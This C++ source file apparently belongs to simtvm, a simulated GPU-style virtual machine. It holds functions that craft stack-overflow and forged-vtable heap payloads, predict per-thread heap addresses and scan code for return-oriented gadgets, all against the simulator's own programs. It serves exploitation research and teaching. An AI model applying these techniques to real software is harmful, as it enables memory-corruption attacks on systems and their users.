// Copyright 2026 The simtvm Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "simtvm/exploit.hpp"

#include <array>
#include <stdexcept>
#include <string>

namespace simtvm {

unsigned selected_slot_index(std::span<const std::uint32_t> buf_words) {
  if (buf_words.size() != StackProgramLayout::kBufWords) {
    throw PayloadError("buf holds 16 words, got " + std::to_string(buf_words.size()));
  }
  return djb2_32(buf_words) % StackProgramLayout::kSlots;
}

Payload craft_stack_payload(CodeOffset target, std::uint32_t total_words) {
  if (target > 0xffff'ffffULL) throw PayloadError("target " + hex(target) + " does not fit a 4-byte word");
  constexpr std::uint32_t kCapacity = StackProgramLayout::kFrameBytes / 4;
  if (total_words > kCapacity) {
    throw PayloadError(std::to_string(total_words) + " words run past the top of LOCAL (at most " +
                       std::to_string(kCapacity) + ")");
  }
  // Words past len stay zero in the frame.
  std::array<std::uint32_t, StackProgramLayout::kBufWords> buf{};
  for (std::uint32_t i = 0; i < total_words && i < buf.size(); ++i) buf[i] = static_cast<std::uint32_t>(target);
  const unsigned slot = selected_slot_index(buf);
  const std::uint32_t needed = StackProgramLayout::kBufWords + 2 * slot + 1;
  if (total_words < needed) {
    throw PayloadError("hash selects fp slot " + std::to_string(slot) + ", which needs " + std::to_string(needed) +
                       " words; got " + std::to_string(total_words));
  }
  return Payload::replicate(target, total_words, 4);
}

Payload craft_heap_payload(CodeOffset secret_entry, std::uint64_t buf_base, const HeapProgramLayout& layout) {
  Payload p;
  p.word_width = 8;
  const std::uint64_t table = buf_base + 8ULL * layout.forged_table_index;
  p.words.assign(layout.object_vtable_slot_index + 1, table);
  p.words.resize(layout.forged_table_index, table);
  for (std::size_t k = 0; k < layout.method_entries.size(); ++k) p.words.push_back(secret_entry);
  p.declared_len = static_cast<std::uint32_t>(p.words.size());
  p.validate();
  return p;
}

std::uint64_t predict_heap_address(const HeapProgramLayout& layout, GridConfig grid, ThreadId thread,
                                   unsigned ordinal, std::uint64_t heap_size) {
  if (!grid.contains(thread)) throw std::out_of_range("thread outside grid");
  if (ordinal >= layout.allocation_sizes.size()) throw std::out_of_range("no allocation with that ordinal");
  HeapState heap(kHeapBase, heap_size);
  const std::uint64_t target = grid.flat_index(thread);
  for (std::uint64_t i = 0; i < target; ++i) {
    for (auto size : layout.allocation_sizes) heap.allocate(size);
  }
  std::uint64_t offset = 0;
  for (unsigned k = 0; k <= ordinal; ++k) offset = heap.allocate(layout.allocation_sizes[k]);
  return encode({Space::kGlobal, offset});
}

std::vector<Gadget> scan_gadgets(const CodeImage& image, std::size_t max_len) {
  std::vector<Gadget> out;
  if (max_len == 0) return out;
  for (const auto& [start, first] : image.instructions) {
    Gadget g;
    g.start = start;
    CodeOffset pc = start;
    for (std::size_t n = 0; n < max_len; ++n, pc += kInstructionBytes) {
      auto it = image.instructions.find(pc);
      if (it == image.instructions.end()) break;
      const Opcode op = it->second.opcode;
      if (op == Opcode::kBra || op == Opcode::kExit) break;
      g.instructions.push_back(it->second);
      if (op == Opcode::kRet || op == Opcode::kBrx) {
        g.length = g.instructions.size();
        out.push_back(std::move(g));
        break;
      }
    }
  }
  return out;
}

}  // namespace simtvm
